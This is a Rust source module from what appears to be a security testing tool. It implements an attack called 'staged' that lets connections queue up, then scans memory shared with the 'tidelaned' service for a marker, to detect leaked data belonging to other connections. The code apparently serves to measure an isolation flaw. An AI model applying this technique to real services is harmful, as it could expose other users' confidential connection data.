//! The attack `staged`: leaves connections in the accept queue, where the service (`tidelaned`)
//! keeps their data. Then accepts the connections, and searches for bytes of other connections in
//! the memory that the service shares with this program. This memory has the buffers of the
//! accepted connections.

use std::{os::fd::AsFd, thread, time::Duration};

use clap::Args;
use serde_json::json;

use crate::{
    Target,
    protocol::Failure,
    region::Program,
    report,
    rings::{Event, Rings},
    sockets::Bound,
};

/// Options of `staged`.
#[derive(Args, Debug)]
pub struct Options {
    #[command(flatten)]
    bound: Bound,
    /// The bytes to look for, such as `SECRET`
    marker: String,
    /// Backlog of the socket and of the service's listener
    #[arg(long, default_value_t = 1024)]
    backlog: u32,
    /// Seconds between listen and accept; meanwhile the service keeps the clients' data
    #[arg(long)]
    wait: f64,
    /// Seconds to accept connections before the search
    #[arg(long, default_value_t = 0.5)]
    seconds: f64,
}

/// Listens, waits, accepts, and then searches for the marker in all memory that the service shares
/// with this program. Prints a line with the number of occurrences.
pub fn run(target: &Target, options: &Options) -> Result<(), Failure> {
    let program = Program::register(target, "staged")?;
    let mut rings = program.context(0)?;
    let socket = options.bound.listening(options.backlog)?;
    let listener = program.service.listen(socket.as_fd(), options.backlog)?;
    thread::sleep(Duration::from_secs_f64(options.wait));
    rings.join(listener);
    let clients = accept(&program, &mut rings, listener, options);
    let found = program.scan(options.marker.as_bytes())?;
    report(&json!({
        "attack": "staged", "clients": clients,
        "scanned": found.scanned, "found": found.places,
    }));
    Ok(())
}

/// Accepts connections for [`Options::seconds`]. Returns their number.
fn accept(program: &Program, rings: &mut Rings, listener: u32, options: &Options) -> u64 {
    let mut clients = 0;
    program.carry(rings, options.seconds, |rings, events| {
        for event in events {
            if let Event::Accepted(client) = event {
                clients += 1;
                rings.accept(client, listener);
            }
        }
    });
    clients
}
